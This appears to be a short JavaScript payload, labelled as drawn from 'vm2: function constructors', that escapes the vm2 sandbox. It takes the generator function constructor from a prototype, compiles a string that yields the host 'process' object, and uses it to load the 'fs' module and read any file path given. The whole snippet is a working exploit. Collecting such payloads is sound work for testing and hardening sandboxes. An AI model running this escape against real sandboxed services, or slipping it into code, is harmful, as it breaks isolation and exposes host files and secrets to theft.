// The constructor of generators, which has no name of its own, makes functions out of strings as well.
// after: read
// source: vm2: function constructors
async function attack({ path }) {
  const make = Object.getPrototypeOf(function* () {}).constructor;
  return { text: await make('yield process')().next().value.mainModule.require('fs').readFileSync(path) };
}
